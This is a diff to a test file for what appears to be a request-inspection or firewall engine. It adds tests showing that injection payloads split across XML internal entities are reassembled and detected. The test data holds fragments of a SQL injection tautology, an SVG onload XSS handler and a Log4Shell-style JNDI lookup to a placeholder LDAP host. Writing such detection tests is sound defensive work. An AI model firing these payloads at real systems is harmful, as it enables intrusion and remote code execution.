@@ -951,6 +951,35 @@ def test_a_legacy_east_asian_encoding_read_as_latin1_spells_nothing(
     assert "xss" in _types(engine, Request("GET", "/a?q=" + payload))
 
 
+@pytest.mark.parametrize(
+    ("declared", "used", "kind"),
+    [
+        ("' O", "<q>&a;R 1=1--</q>", "sqli"),
+        ("&#60;svg on", '<q n="&a;load=confirm`1`"/>', "xss"),  # an attribute's
+        ("${jn", "<q>&a;di:ldap://x.example/a}</q>", "rce"),
+    ],
+)
+def test_a_payload_split_among_internal_entities_is_read_whole(
+    engine: Engine, declared: str, used: str, kind: str
+) -> None:
+    """A parser puts an entity's text where a reference to it is: a payload split between a
+    declaration and a text reads whole to the application, none of it in one place."""
+    document = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{declared}">]><r>{used}</r>'
+    request = Request("POST", "/", (("Content-Type", "application/xml"),), document.encode())
+    assert kind in _types(engine, request)
+
+
+def test_internal_entities_are_expanded_as_declared_and_no_further() -> None:
+    """An entity refers to those declared before it; the first declaration of a name binds;
+    XML's own five are not redeclared; an unknown reference is left as it is."""
+    document = (
+        '<!DOCTYPE r [<!ENTITY b "B"><!ENTITY a \'A&b;\'><!ENTITY b "C"><!ENTITY lt "x">]>'
+        "<r><q>&a;&b;&lt;&c;</q></r>"
+    )
+    request = Request("POST", "/", (("Content-Type", "application/xml"),), document.encode())
+    assert ("post.xml.r.q", "ABB<&c;") in extract(request, Limits()).items
+
+
 def test_xml_bytes_read_as_bytes_too_are_read_as_utf8(engine: Engine) -> None:
     """Big5's second bytes are ASCII letters, so a Cantonese blog's feed is read as bytes
     too; read as Latin-1, `\xa4F\xa4G\xa4Q` (了二十) was `¤F¤G¤Q`, and seven bits wide
